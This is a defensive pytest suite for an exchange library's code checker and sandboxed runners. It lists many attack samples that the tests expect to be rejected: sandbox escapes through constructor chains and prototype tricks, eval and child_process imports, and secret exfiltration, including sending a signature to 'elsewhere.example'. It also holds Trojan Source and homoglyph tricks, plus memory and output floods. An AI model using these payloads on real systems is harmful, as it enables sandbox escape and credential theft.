"""The subset as a sandbox: every way we know from a value to a function, a constructor or a language's magic is
rejected by `exkit check` with a rule id, and nothing of a rejected file runs under `exkit certify`.

Each attack is a method body inside an otherwise conforming exchange; the payload, where it would run, writes a
canary file, so a test that passes by accident would still leave the canary behind.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import subprocess
import sys

import pytest

from tests.base_runners import ROOT, run_calls
from tests.checking import check_text, rules_of
from tests.repository import copy_repository
from transpiler.harness.fixtures import FixtureError, runner_input
from transpiler.harness.run import RUNTIMES, Library, RunnerError, run_exchange_code
from transpiler.harness.sandbox import network_isolation, resource_limits
from transpiler.names import (
    INHERITED_FUNCTIONS, NATIVE_METHODS, PYTHON_INSTANCE_ATTRIBUTES, SEALED_SNAKE_CASE, THIS_PROPERTIES, snake_case,
)

HEADER = """import Exchange from './base/Exchange.js';
import { ExchangeError } from './base/errors.js';
import Precise from './base/Precise.js';

export default class example extends Exchange {
"""

# (name, method body or class members, rule ids that must reject it: at least one of them)
ATTACKS = [
    ("string-constructor-chain", "const f = ''['constructor']['constructor'];\nreturn f ('return 1') ();",
     {"SUB-B002"}),
    ("array-constructor", "const f = []['constructor'];\nreturn f;", {"SUB-B002"}),
    ("object-constructor", "return Object['constructor'];", {"SUB-E006", "SUB-B002"}),
    ("this-constructor", "return this['constructor'];", {"SUB-E002", "SUB-B002"}),
    ("this-dot-constructor", "return this.constructor;", {"SUB-B002"}),
    ("computed-constructor-key", "const k = 'con' + 'structor';\nconst F = symbol[k][k];\n"
     "const d = { 'slice': F };\nreturn d.slice ('return 1');", {"SUB-B004"}),
    ("template-key", "return symbol[`constructor`];", {"SUB-B002"}),
    ("inherited-method-literal", "const f = params['toString'];\nreturn f;", {"SUB-B004"}),
    ("thenable", "const then = params['then'];\nreturn then;", {"SUB-B004"}),
    ("proto-literal-key", "const o = { '__proto__': params };\nreturn o;", {"SUB-B002"}),
    ("proto-write", "params['__proto__'] = [];\nreturn params;", {"SUB-B002"}),
    ("computed-call", "return params['f'] ();", {"SUB-B003"}),
    ("dynamic-computed-call", "const k = 'f';\nreturn params[k] ();", {"SUB-B003", "SUB-B004"}),
    ("call-of-call-result", "return symbol.slice (1) ();", {"SUB-B003"}),
    ("call-of-local", "const f = params;\nreturn f (1);", {"SUB-B003"}),
    ("call-of-class", "return ExchangeError ('x');", {"SUB-B003"}),
    ("method-as-value", "const send = this.fetch;\nreturn send;", {"SUB-B005"}),
    ("method-overwritten", "this.sign = params;\nreturn undefined;", {"SUB-B005"}),
    ("this-as-value", "const me = this;\nreturn me['fetch'];", {"SUB-B007"}),
    ("class-member", "return ExchangeError['captureStackTrace'];", {"SUB-B007"}),
    ("precise-member", "return Precise['stringAdd'];", {"SUB-E006"}),
    ("python-fullwidth-self", "const ｓｅｌｆ = params;\nreturn ｓｅｌｆ;", {"SUB-B001"}),
    ("unicode-escape-identifier", "const s\\u0065lf = params;\nreturn self;", {"SUB-B001"}),
    ("cyrillic-homoglyph", "const pаrams2 = params;\nreturn pаrams2;", {"SUB-B001"}),
    ("dollar-identifier", "const $x = params;\nreturn $x;", {"SUB-B001"}),
    ("python-dunder-member", "return this.__class__;", {"SUB-B002"}),
    ("python-globals", "return this.fetchTicker.__func__;", {"SUB-B002", "SUB-E002"}),
    ("python-dict", "return this.__dict__;", {"SUB-B002"}),
    ("dunder-call", "return this.__sizeof__ ();", {"SUB-B002"}),
    ("define-getter", "return params.__defineGetter__ ('x', params);", {"SUB-B002"}),
    ("globalThis", "return globalThis;", {"SUB-E006"}),
    ("reflect", "return Reflect.ownKeys (params);", {"SUB-E006"}),
    ("proxy", "return new Proxy (params, params);", {"SUB-E011"}),
    ("symbol", "return Symbol.iterator;", {"SUB-E006"}),
    ("eval", "return eval ('1');", {"SUB-E006"}),
    ("function-constructor", "return new Function ('return 1');", {"SUB-E011"}),
    ("process-env", "return process.env;", {"SUB-E006"}),
    ("arguments", "return arguments;", {"SUB-E014"}),
    ("tagged-template", "return String.raw`x`;", {"SUB-E012", "SUB-E006"}),
    ("getter-in-literal", "return { get x () { return 1; } };", {"SUB-E016"}),
    ("arrow", "return [ 1 ].map ((x) => x);", {"SUB-E001"}),
    ("dynamic-import", "return import ('node:fs');", {"SUB-S002", "SUB-P001"}),
    # PHP's exception constructor takes an integer code second: the error became a TypeError there only.
    ("error-with-two-arguments", "throw new ExchangeError ('message', 'code');", {"SUB-E011"}),
    # The user's settings and the credentials: a proxy of the file's choosing sees every later request, and a
    # secret replaced after copying it is no longer redacted from the messages that carry the copy.
    ("proxy-at-run-time", "this.proxy = 'http://127.0.0.1:8080';\nreturn undefined;", {"SUB-B008"}),
    ("secret-replaced", "const s = this.secret;\nthis.secret = 'x';\nthrow new ExchangeError (s);",
     {"SUB-B008", "SUB-B009"}),
    ("verbose-at-run-time", "this.verbose = true;\nreturn undefined;", {"SUB-B008"}),
    ("host-header", "this.headers['Host'] = 'elsewhere.example';\nreturn undefined;", {"SUB-B008"}),
    # No redaction finds a secret in hexadecimal or split into characters.
    ("secret-in-hex", "throw new ExchangeError (this.binaryToBase16 (this.encode (this.secret)));", {"SUB-B009"}),
    ("secret-split", "return { 'info': this.secret.split ('').join (' ') };", {"SUB-B009"}),
    ("secret-in-url", "return await this.publicGetTicker ({ 'k': this.secret.slice (1) });", {"SUB-B009"}),
    ("secret-as-hmac-data", "return this.hmac (this.encode (this.secret), this.encode ('k'));", {"SUB-B009"}),
    ("secret-through-a-const", "const key = this.encode (this.secret);\nreturn this.binaryToBase64 (key);",
     {"SUB-B009"}),
    ("private-key-in-options", "this.options['k'] = this.privateKey;\nreturn undefined;", {"SUB-B009"}),
    ("credentials-method", "return this.safeString (this.credentials (), 'secret');", {"SUB-B009"}),
    # HTTP Basic authentication's header is base64 (key + ':' + secret): the pipeline adds it when sign () asks.
    ("basic-authorization-method", "return this.basicAuthorization ().split ('').join (' ');", {"SUB-B009"}),
    # Node's raw transport requested any URL, below fetch's check of the origins: the key and a signature of the
    # file's choosing (a signing oracle) went wherever the file said.
    ("raw-transport", "const signature = this.hmac (this.encode ('withdraw'), this.encode (this.secret));\n"
                      "return await this.send ('https://elsewhere.example/?s=' + signature, 'GET', {}, undefined);",
     {"SUB-B006", "SUB-E019"}),
    ("fetch-directly", "return await this.fetch ('https://api.example.com/', 'GET', {}, undefined);", {"SUB-B006"}),
    ("log-the-key", "this.log (this.apiKey.split ('').join (' '));\nreturn undefined;", {"SUB-B006"}),
    ("python-helper", "return this.request_headers ('GET', symbol, params);", {"SUB-B006"}),
    ("stream-client", "return this.streamClient ('wss://elsewhere.example/');", {"SUB-B006"}),
    # Node's hmac copied the secret into the process's pool of small buffers, and this.bytes handed out a slice of
    # that pool: its ['buffer'] was the whole pool, secrets of other instances too (red-team round 54). The helpers
    # that only the native layer calls are private now, in Node as in Python and PHP.
    ("node-buffer-pool", "return this.digestAs (this.bytes ('x')['buffer'], 'hex');", {"SUB-B006", "SUB-E019"}),
    ("node-only-date-check", "return this.validDate (2020, 1, 1, 0, 0, 0, 0);", {"SUB-E019"}),
    # What reviewers read must be what runs: "Trojan Source" bidirectional controls, invisible characters, and a
    # host whose Cyrillic letter names another domain than the one it shows.
    ("trojan-source", "const isAdmin = false;\n/* \u202e } \u2066if (isAdmin)\u2069 \u2066 admins only */\n"
                      "return isAdmin;", {"SUB-B010"}),
    ("zero-width-key", "return { 'pri\u200bce': params };", {"SUB-B010"}),
    ("homoglyph-host", "return 'https://api.kr\u0430ken.com/0/private';", {"SUB-B010"}),
]

CLASS_ATTACKS = [
    ("fetch-override", "async fetch (url, method = 'GET', headers = undefined, body = undefined) {\n"
                       "    return { 'url': url };\n}", {"SUB-B006"}),
    ("request-override", "async request (path, api = 'public', method = 'GET', params = {}) {\n    return {};\n}",
     {"SUB-B006"}),
    ("throw-error-override", "throwError (errorClass, message) {\n    return undefined;\n}", {"SUB-B006"}),
    # the HTTP Basic header is added and masked by the base pipeline: a redefinition would show it to handleErrors
    ("basic-authorization-override", "basicAuthorization () {\n    return 'Basic ' + this.apiKey;\n}", {"SUB-B006"}),
    ("exchange-headers-override", "headersForExchange (headers) {\n    return headers;\n}", {"SUB-B006"}),
    ("php-destructor", "__destruct () {\n    return undefined;\n}", {"SUB-B002"}),
    ("php-to-string", "__toString () {\n    return this.secret;\n}", {"SUB-B002"}),
    ("python-repr", "__repr__ () {\n    return this.secret;\n}", {"SUB-B002"}),
    ("php-magic-get", "__get (name) {\n    return name;\n}", {"SUB-B002"}),
    ("constructor", "constructor () {\n    super ();\n}", {"SUB-S003"}),
    ("getter", "get secretValue () {\n    return this.secret;\n}", {"SUB-S003"}),
    # PHP's method names ignore case: this would be JsonSerializable's jsonSerialize, which json_encode calls.
    ("php-json-serialize-lower-case", "jsonserialize () {\n    return { 'p': this.password };\n}", {"SUB-B006"}),
    # describe () may not route, print or unbound the requests: those are the user's settings.
    ("describe-proxy", "describe () {\n    return this.deepExtend (super.describe (), { 'id': 'example', "
                       "'proxy': 'http://127.0.0.1:8080' });\n}", {"SUB-B008"}),
    ("describe-proxy-written", "describe () {\n    const extra = { 'id': 'example' };\n    extra['proxy'] = "
                               "'http://127.0.0.1:8080';\n    return this.deepExtend (super.describe (), extra);\n}",
     {"SUB-B008"}),
    ("describe-computed-key", "describe () {\n    const k = 'pro' + 'xy';\n    return this.deepExtend (super.describe (), "
                              "{ 'id': 'example', [k]: 'http://127.0.0.1:8080' });\n}", {"SUB-B008"}),
    # describe () is the same at every construction: hosts that certify sees and users' machines do not (a date, a
    # random draw, a parse) would escape the registry's list of origins (CERT-R001).
    ("describe-time-bomb", "describe () {\n    const api = (this.milliseconds () > 1800000000000) ? 'https://api.example.net' "
                           ": 'https://api.example.com';\n    return this.deepExtend (super.describe (), { 'id': 'example', "
                           "'urls': { 'api': api } });\n}", {"SUB-B011"}),
    ("describe-random-host", "describe () {\n    return this.deepExtend (super.describe (), { 'id': 'example', 'urls': "
                             "{ 'api': (Math.random () < 0.01) ? 'https://api.example.net' : 'https://api.example.com' } "
                             "});\n}", {"SUB-B011", "SUB-E006"}),
    ("describe-parsed-urls", "describe () {\n    return this.deepExtend (super.describe (), { 'id': 'example' }, "
                             "this.parseJson ('{\"urls\": {\"api\": \"https://api.example.net\"}}'));\n}", {"SUB-B011"}),
    ("describe-helper-host", "describe () {\n    return this.deepExtend (super.describe (), { 'id': 'example', 'urls': "
                             "{ 'api': this.host () } });\n}\nhost () {\n    return (this.seconds () % 100 === 0) ? "
                             "'https://api.example.net' : 'https://api.example.com';\n}", {"SUB-B011"}),
    # certify reads the hosts in Node: arithmetic past 2^53 is exact in Python and PHP, so that describe () named
    # api.example.com there and elsewhere.example to every Python and PHP user.
    ("describe-runtime-arithmetic", "describe () {\n    const n = 9007199254740991;\n    const api = (n + 2 === n + 1) ? "
                                    "'https://api.example.com' : 'https://elsewhere.example';\n    return this.deepExtend "
                                    "(super.describe (), { 'id': 'example', 'urls': { 'api': api } });\n}", {"SUB-B011"}),
    # Node runs the last of two definitions of a method; the checker judged, and the emitters kept, the first.
    ("describe-defined-twice", "describe () {\n    return this.deepExtend (super.describe (), { 'id': 'example' });\n}\n"
                               "describe () {\n    return this.deepExtend (super.describe (), { 'id': 'example', "
                               "'proxy': 'http://127.0.0.1:8080' });\n}", {"SUB-D003"}),
    # A JavaScript name that Python and PHP spell as an inherited method's replaces that method there only.
    ("python-php-only-override", "filter_by (a, b, c) {\n    return [];\n}", {"SUB-D003"}),
    ("primitive-override", "_merged_limits (market, limits) {\n    return {};\n}", {"SUB-B006"}),
    # Node's implicit API methods take the params only; Python's passed further arguments on as headers and body.
    ("implicit-api-headers", "describe () {\n    return this.deepExtend (super.describe (), { 'id': 'example', 'api': "
                             "{ 'public': { 'get': [ 'ticker' ] } } });\n}\nasync fetchTime (params = {}) {\n"
                             "    return await this.publicGetTicker ({}, { 'Host': 'elsewhere.example' }, 'body');\n}",
     {"SUB-E019"}),
    # The same extra arguments in a spread, which the count of arguments did not see.
    ("implicit-api-headers-spread", "describe () {\n    return this.deepExtend (super.describe (), { 'id': 'example', "
                                    "'api': { 'public': { 'get': [ 'ticker' ] } } });\n}\nasync fetchTime (params = {}) "
                                    "{\n    const extra = [ {}, { 'X-Forwarded-Host': 'elsewhere.example' }, 'body' ];\n"
                                    "    return await this.publicGetTicker (...extra);\n}", {"SUB-E019"}),
    # A then method makes the exchange a thenable: awaiting it (an async function returning it) runs it in Node.
    ("thenable-exchange", "then (resolve, reject) {\n    return undefined;\n}", {"SUB-B002"}),
    # The base class awaits fetchMarkets (): a synchronous override raised in Python's asyncio module only.
    ("synchronous-override-of-async", "fetchMarkets (params = {}) {\n    return [];\n}", {"SUB-A002"}),
    # Python's layer sets self.session: a method of that name ran in Node and PHP, and was hidden in Python.
    ("python-attribute-method", "session () {\n    return 5;\n}", {"SUB-B006"}),
    ("describe-unbounded", "describe () {\n    return this.deepExtend (super.describe (), { 'id': 'example', "
                           "'maxResponseSize': 1e15, 'timeout': 1e9 });\n}", {"SUB-B008"}),
    # Methods the Python and PHP native layers call where Node does not (red-team round 12): Python's and PHP's
    # safeTrade call contractValue for contract markets only (Node for every trade without a cost: a cost of 0 for
    # amounts over 1000 was Node's alone), safeFee under conditions of their own (a fee for a trade with fees: [] in
    # Node and Python, not PHP), and their fetch reads Content-Encoding through headerValues (Node's does not).
    ("contract-value-override", "contractValue (amount, price, market = undefined) {\n    return '0';\n}",
     {"SUB-B006"}),
    ("safe-fee-override", "safeFee (fee) {\n    return { 'cost': 5, 'currency': 'BTC', 'rate': undefined };\n}",
     {"SUB-B006"}),
    ("header-values-override", "headerValues (headers) {\n    return { 'content-encoding': 'gzip' };\n}",
     {"SUB-B006"}),
    # Each runtime's stack holds another depth (red-team round 12): 3,000 calls ran in Node and PHP and failed in
    # Python, and at about 10,000 Node threw a RangeError that a catch saw, where PHP went on: a depth of the file's
    # choosing took another path (another order side) in Node than in PHP.
    ("recursion", "depth (n) {\n    return (n === 0) ? 0 : 1 + this.depth (n - 1);\n}", {"SUB-B012"}),
    ("mutual-recursion", "even (n) {\n    return (n === 0) ? true : this.odd (n - 1);\n}\n"
                         "odd (n) {\n    return (n === 0) ? false : this.even (n - 1);\n}", {"SUB-B012"}),
    ("recursion-through-the-base-class", "parseOrder (order, market = undefined) {\n    return this.safeOrder ({ "
                                         "'trades': this.parseOrders (this.safeList (order, 'children', []), market) "
                                         "}, market);\n}", {"SUB-B012"}),
]

TOP_LEVEL_ATTACKS = [
    ("node-builtin-import", "import fs from 'node:fs';\n" + HEADER + "}\n", {"SUB-S002"}),
    ("require", "const cp = require ('child_process');\n" + HEADER + "}\n", {"SUB-S002", "SUB-S004"}),
    ("top-level-code", HEADER + "}\nexample.prototype.x = 1;\n", {"SUB-S004", "SUB-B002"}),
    # An exchange class as a value is a class in Node: a way to its prototype and constructor.
    ("base-class-as-value", HEADER + "    describe () {\n        return { 'options': { 'c': Exchange } };\n    }\n}\n",
     {"SUB-B007"}),
    ("parent-class-as-value", HEADER.replace("extends Exchange", "extends kraken").replace(
        "import Exchange from './base/Exchange.js';", "import kraken from './kraken.js';")
     + "    fetchTime (params = {}) {\n        const k = kraken;\n        return k;\n    }\n}\n", {"SUB-B007"}),
    ("sibling-exchange-import", "import kraken from './kraken.js';\n" + HEADER + "}\n", {"SUB-S002"}),
    ("package-index-as-parent", HEADER.replace("extends Exchange", "extends index").replace(
        "import Exchange from './base/Exchange.js';", "import index from './index.js';") + "}\n", {"SUB-S002"}),
]


def method_file(body: str) -> str:
    indented = "\n".join("        " + line for line in body.split("\n"))
    return HEADER + "    async fetchTicker (symbol, params = {}) {\n" + indented + "\n    }\n}\n"


def class_file(members: str) -> str:
    return HEADER + "\n".join("    " + line for line in members.split("\n")) + "\n}\n"


@pytest.mark.parametrize("name, body, rejected_by", ATTACKS, ids=[attack[0] for attack in ATTACKS])
def test_expression_attacks_are_rejected(name, body, rejected_by):
    found = rules_of(method_file(body))
    assert found & rejected_by, f"{name}: expected one of {sorted(rejected_by)}, found {sorted(found)}"


@pytest.mark.parametrize("name, members, rejected_by", CLASS_ATTACKS, ids=[attack[0] for attack in CLASS_ATTACKS])
def test_class_attacks_are_rejected(name, members, rejected_by):
    found = rules_of(class_file(members))
    assert found & rejected_by, f"{name}: expected one of {sorted(rejected_by)}, found {sorted(found)}"


@pytest.mark.parametrize("name, text, rejected_by", TOP_LEVEL_ATTACKS, ids=[attack[0] for attack in TOP_LEVEL_ATTACKS])
def test_file_attacks_are_rejected(name, text, rejected_by):
    found = rules_of(text)
    assert found & rejected_by, f"{name}: expected one of {sorted(rejected_by)}, found {sorted(found)}"


def test_the_conforming_forms_stay_allowed():
    body = ("const tickers = await this.fetchTickers ();\nconst ticker = this.safeValue (tickers, symbol);\n"
            "const list = [ 1, 2 ];\nlet total = 0;\nfor (let i = 0; i < list.length; i++) {\n"
            "    total = total + list[i];\n}\nconst request = {};\nrequest[symbol] = total;\nconst price = params['price'];\n"
            "const failed = ticker instanceof ExchangeError;\nconst sum = Precise.stringAdd ('1', '2');\n"
            "return [ ticker, total, price, failed, sum, this.id, this.options['x'], symbol.slice (1) ];")
    assert check_text(method_file(body)) == []


def node_values(script: str):
    completed = subprocess.run(["node", "--input-type=module", "-e", script], cwd=os.path.join(ROOT, "js"),
                               capture_output=True, text=True, timeout=60, check=True)
    return json.loads(completed.stdout)


def test_every_inherited_function_of_this_node_is_listed():
    names = node_values(
        "const names = new Set ();\n"
        "for (const p of [ Object.prototype, Array.prototype, String.prototype, Number.prototype, "
        "Boolean.prototype, Function.prototype, Error.prototype, Promise.prototype, Error ]) {\n"
        "  for (const n of Object.getOwnPropertyNames (p)) {\n"
        "    const d = Object.getOwnPropertyDescriptor (p, n);\n"
        "    if (typeof d.value === 'function' || d.get || d.set) names.add (n);\n"
        "  }\n}\nconsole.log (JSON.stringify ([ ...names ]));")
    assert set(names) <= INHERITED_FUNCTIONS, sorted(set(names) - INHERITED_FUNCTIONS)


def test_this_properties_are_the_base_describe_and_instance_defaults_keys():
    keys = node_values(
        "import Exchange from './base/Exchange.js';\n"
        "const e = Object.create (Exchange.prototype);\n"
        "console.log (JSON.stringify ([ ...Object.keys (e.describe ()), ...Object.keys (e.instanceDefaults ()) ]));")
    assert set(keys) == THIS_PROPERTIES


def test_the_python_instance_attributes_are_properties_or_listed():
    """A method named like an attribute the Python layer sets on the instance is hidden there (SUB-B006)."""
    known = THIS_PROPERTIES | {snake_case(name) for name in THIS_PROPERTIES} | PYTHON_INSTANCE_ATTRIBUTES
    for layer in ("python/exchangekit/base/native_exchange.py", "python/exchangekit/async_support/base/native_exchange.py",
                  "python/exchangekit/base/exchange.py", "python/exchangekit/base/primitives.py"):
        path = os.path.join(ROOT, layer)
        if not os.path.exists(path):
            continue
        text = open(path, encoding="utf-8").read()
        names = {name for name in re.findall(r"self\.([A-Za-z_]\w*)\s*(?::[^=\n]+)?=(?!=)", text)
                 if not name.startswith("__")}
        assert names <= known, f"{layer}: {sorted(names - known)} are neither properties nor listed"


def test_the_sealed_native_methods_are_those_of_every_native_layer():
    javascript = node_values(
        "import N from './base/NativeExchange.js';\n"
        "console.log (JSON.stringify (Object.getOwnPropertyNames (N.prototype).filter ((n) => n !== 'constructor')));")
    assert set(javascript) == NATIVE_METHODS
    for layer in ("python/exchangekit/base/native_exchange.py", "python/exchangekit/async_support/base/native_exchange.py",
                  "python/exchangekit/base/primitives.py", "php/base/NativeExchange.php", "php/base/Primitives.php"):
        text = open(os.path.join(ROOT, layer), encoding="utf-8").read()
        names = set(re.findall(r"\n    (?:async )?def (\w+)\(", text)) | set(re.findall(r"\n    (?:\w+ )*function (\w+)\(", text))
        written = {name for name in names if not name.startswith("__")}
        names = {snake_case(name) for name in written}
        assert names <= SEALED_SNAKE_CASE, f"{layer}: {sorted(names - SEALED_SNAKE_CASE)} not sealed"
        # PHP's method names ignore case: jsonserialize, as an exchange method, would be PHP's jsonSerialize.
        lower = {name.lower() for name in written}
        assert lower <= SEALED_SNAKE_CASE, f"{layer}: {sorted(lower - SEALED_SNAKE_CASE)} not sealed in lower case"


def test_every_native_method_exchange_code_calls_is_in_every_runtime():
    """A native method that one runtime alone has lets a file go on there alone (Node's bytes, digestAs,
    algorithmName, validDate and validTimestamp, red-team round 54): each that the checker lets exchange code call
    is a public method of the Python classes and of PHP's, by its snake_case name."""
    from transpiler.names import is_internal

    names = [snake_case(name) for name in sorted(NATIVE_METHODS) if not is_internal(name)]
    assert "hmac" in names and "bytes" not in names
    python = ("import json, sys\nfrom exchangekit.base.exchange import Exchange\n"
              "from exchangekit.async_support.base.exchange import Exchange as AsyncExchange\n"
              "print(json.dumps([[base.__module__, name] for base in (Exchange, AsyncExchange) for name in sys.argv[1:]"
              " if name.startswith('_') or not callable(getattr(base, name, None))]))")
    php = ("require 'php/base/autoload.php';\n$class = new \\ReflectionClass('\\exchangekit\\Exchange');\n"
           "echo json_encode(array_values(array_filter(array_slice($argv, 1), fn ($name) => "
           "!($class->hasMethod($name) && $class->getMethod($name)->isPublic()))));")
    for command in ([sys.executable, "-c", python, *names], ["php", "-r", php, "--", *names]):
        missing = subprocess.run(command, capture_output=True, text=True, cwd=ROOT, check=True, timeout=60,
                                 env=dict(os.environ, PYTHONPATH=os.path.join(ROOT, "python"))).stdout
        assert json.loads(missing) == [], f"{command[0]}: {missing}"


def test_node_signs_without_copying_the_key_into_the_shared_buffer_pool():
    """Buffer.from puts a short text in the process's pool of small buffers, which any pooled Buffer's `buffer` shows
    whole: the keys that hmac and jwt read, and the helpers' bytes, are made outside it (red-team round 54 read the
    secret there)."""
    found = node_values(
        "import { kraken } from './index.js';\n"
        "const exchange = new kraken ({ 'secret': 'POOL-SECRET-0123456789' });\n"
        "exchange.hmac ('data', exchange.secret);\n"
        "exchange.hmac ('data', exchange.encode (exchange.secret), 'sha512', 'base64');\n"
        "exchange.jwt ({ 'a': 1 }, exchange.secret);\n"
        "exchange.binaryConcat (exchange.encode ('n'), exchange.base64ToBinary (exchange.stringToBase64 (exchange.secret)));\n"
        "const pool = Buffer.from (Buffer.from ('x').buffer);\n"
        "console.log (JSON.stringify ([ pool.length, pool.includes ('POOL-SECRET') ]));")
    assert found[0] >= 4096 and found[1] is False


def test_the_raw_transport_is_private_in_node():
    """fetch checks the origins and then sends; what sends may not be reachable without fetch's check."""
    names = node_values(
        "import { kraken } from './index.js';\n"
        "const e = new kraken ({});\n"
        "const names = [];\n"
        "for (let p = e; p !== null; p = Object.getPrototypeOf (p)) { names.push (...Object.getOwnPropertyNames (p)); }\n"
        "console.log (JSON.stringify (names));")
    assert "send" not in names
    assert not {"bytes", "digestAs", "algorithmName", "validDate", "validTimestamp"} & set(names)


@pytest.mark.parametrize("method", ["throwError", "fetch", "__construct", "constructor", "fetch-ticker"])
def test_runner_input_refuses_methods_a_fixture_may_not_call(method):
    fixture = {"exchange": "kraken", "config": {}, "milliseconds": 0, "methods": {method: [{"args": []}]}}
    with pytest.raises(FixtureError, match="may not call"):
        runner_input(fixture)


CANARY_PAYLOAD = """import Exchange from './base/Exchange.js';
import fs from 'node:fs';

fs.writeFileSync ('{canary}', 'top level ran');

export default class kraken extends Exchange {
}
"""


@pytest.mark.slow
def test_certify_runs_nothing_of_a_file_that_fails_the_checker(tmp_path):
    project = tmp_path / "repo"
    copy_repository(project)
    canary = tmp_path / "canary-js"
    (project / "js" / "kraken.js").write_text(CANARY_PAYLOAD.replace("{canary}", str(canary)))
    fixture = json.loads((project / "tests" / "fixtures" / "exchanges" / "kraken.json").read_text())
    fixture["methods"]["throwError"] = [{"description": "instantiate any PHP class by name", "args": ["SplFileObject", "http://127.0.0.1:9/"], "throws": "ExchangeError"}]
    (project / "tests" / "fixtures" / "exchanges" / "kraken.json").write_text(json.dumps(fixture))
    completed = subprocess.run([sys.executable, "-c", "from transpiler.cli import main; main()", "certify", "kraken",
                                "--format", "json"], cwd=project, capture_output=True, text=True, timeout=600)
    assert completed.returncode == 1, completed.stderr
    [report] = json.loads(completed.stdout)
    rules = {finding["rule"] for finding in report["findings"]}
    assert {"SUB-S002", "SUB-S004", "CERT-F005"} <= rules
    assert all(result["passed"] == result["failed"] == 0 and result["not_run"] for result in report["results"].values())
    assert not canary.exists(), "the top-level code of a rejected file ran"
    shutil.rmtree(project)


PROBE = """
import json, os, socket, sys
reached = True
try:
    socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=2).close()
except OSError:
    reached = False
print(json.dumps({"variables": sorted(os.environ), "home": os.environ.get("HOME"), "reached": reached}))
"""


def test_exchange_code_runs_without_the_machines_environment_and_network(monkeypatch):
    monkeypatch.setenv("GITHUB_TOKEN", "ghp-must-not-leak")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    try:
        seen = run_exchange_code([sys.executable, "-c", PROBE, str(listener.getsockname()[1])], None,
                                 Library.source_tree(ROOT), "probe")
    finally:
        listener.close()
    assert "GITHUB_TOKEN" not in seen["variables"]
    assert set(seen["variables"]) <= {"PATH", "LANG", "LC_ALL", "LC_CTYPE", "TZ", "HOME", "TMPDIR",
                                      "EXCHANGEKIT_PYTHON_PATH", "EXCHANGEKIT_PHP_AUTOLOAD", "EXCHANGEKIT_JS_INDEX"}
    assert seen["home"] != os.path.expanduser("~") and "exkit-home-" in seen["home"]
    if network_isolation():
        assert not seen["reached"], "a runner of exchange code reached a server on this machine"


# Code that passes the checker can still loop: doubling a string forty times asks Python and PHP (whose CLI has no
# memory limit) for a terabyte, and a result can be as large; the runners fail instead of the machine.
HOARDERS = {"python": [sys.executable, "-c", "text = 'x' * (5 << 30)"],
            "php": ["php", "-r", '$text = str_repeat("x", 5 << 30);']}
FLOOD = "import sys\nfor _ in range(80):\n    sys.stdout.write('x' * (1 << 20))\nprint('{}')"


@pytest.mark.skipif(not resource_limits(), reason="this machine has no prlimit")
@pytest.mark.parametrize("language", sorted(HOARDERS))
def test_a_runner_of_exchange_code_has_bounded_memory(language):
    with pytest.raises(RunnerError, match="runner failed") as raised:
        run_exchange_code(HOARDERS[language], None, Library.source_tree(ROOT), "hoarder")
    assert re.search("MemoryError|memory", str(raised.value), re.IGNORECASE), raised.value


@pytest.mark.skipif(not resource_limits(), reason="this machine has no prlimit")
def test_a_runner_of_exchange_code_has_bounded_output():
    with pytest.raises(RunnerError, match="printed more than 64 MiB"):
        run_exchange_code([sys.executable, "-c", FLOOD], None, Library.source_tree(ROOT), "flood")


def test_a_runners_result_holds_a_bounded_number_of_values():
    # 12 MB of empty dictionaries a runtime took certify's own process, which parses the results outside the
    # runners' limits, to 1.34 GB (red-team round 72): a result of more values and commas than MAX_RESULT_MARKS (a
    # dictionary after a comma counts twice) is refused.
    many = "import sys; sys.stdout.write('[' + '{},' * 1_000_000 + '{}]\\n')"
    with pytest.raises(RunnerError, match="holds more than 2,000,000 values and commas"):
        run_exchange_code([sys.executable, "-c", many], None, Library.source_tree(ROOT), "many")
    fewer = "import sys; sys.stdout.write('[' + '{},' * 999_999 + '{}]\\n')"
    assert len(run_exchange_code([sys.executable, "-c", fewer], None, Library.source_tree(ROOT), "fewer")) == 1_000_000


def test_a_runners_result_of_pull_request_code_is_at_most_16_mib():
    # (red-team round 73: one string of 64 MiB, a character beyond U+FFFF in it, took certify's process to 0.8 GB)
    long = "import sys; sys.stdout.write('[\"\\U0001F600' + 'a' * (17 << 20) + '\"]\\n')"
    with pytest.raises(RunnerError, match="longer than 16 MiB"):
        run_exchange_code([sys.executable, "-c", long], None, Library.source_tree(ROOT), "long")


def test_a_runners_result_nested_too_deeply_is_a_runner_error():
    # (red-team round 73: json.loads's RecursionError went past certify's handling of a runner's failures)
    deep = "import sys; sys.stdout.write('[' * 100_000 + ']' * 100_000 + '\\n')"
    with pytest.raises(RunnerError, match="nested too deeply"):
        run_exchange_code([sys.executable, "-c", deep], None, Library.source_tree(ROOT), "deep")


@pytest.mark.parametrize("runtime", RUNTIMES)
def test_the_native_layer_instantiates_nothing_by_name_and_requests_only_http(runtime, tmp_path):
    canary = tmp_path / f"canary-{runtime}"
    # A class name is a string for every runtime here, and no string names a class: even 'ExchangeError' is refused
    # (exchange code passes the imported classes, as the fixtures' error cases show in every runtime).
    calls = [["throwError", ["SplFileObject", str(canary)]], ["throwError", ["ExchangeError", "by name"]],
             ["fetch", [f"file://{canary}"]], ["fetch", ["ftp://127.0.0.1:9/x"]]]
    results, _ = run_calls(runtime, {"describe": {"id": "local", "urls": {"api": "http://127.0.0.1:9"}},
                                     "config": {}, "calls": calls})
    assert [result.get("throws") for result in results] == ["ExchangeError"] * 4, results
    assert "unknown error class" in results[0]["message"] and "http://" in results[2]["message"]
    assert not canary.exists()
